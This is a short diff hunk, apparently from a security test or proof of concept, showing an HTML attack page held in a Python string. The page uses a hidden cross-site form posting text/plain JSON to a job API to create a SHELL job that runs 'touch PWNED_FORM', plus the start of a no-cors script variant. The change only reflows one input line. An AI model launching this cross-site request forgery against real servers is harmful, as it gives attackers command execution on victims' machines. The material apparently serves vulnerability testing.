@@ -27,8 +27,8 @@ ATTACK = """<!doctype html>
 <iframe name="sink" id="sink"></iframe>
 <iframe id="framed" src="TARGET/"></iframe>
 <form id="form" method="POST" action="TARGET/api/v1/jobs" enctype="text/plain" target="sink">
-  <input name='{"job_class_string": "SHELL", "name": "form", "pub_args": ["touch", "PWNED_FORM"], \
-"x": "' value='"}'>
+  <input name='{"job_class_string": "SHELL", "name": "form",
+                "pub_args": ["touch", "PWNED_FORM"], "x": "' value='"}'>
 </form>
 <script>
 const job = JSON.stringify({job_class_string: "SHELL", name: "no-cors",
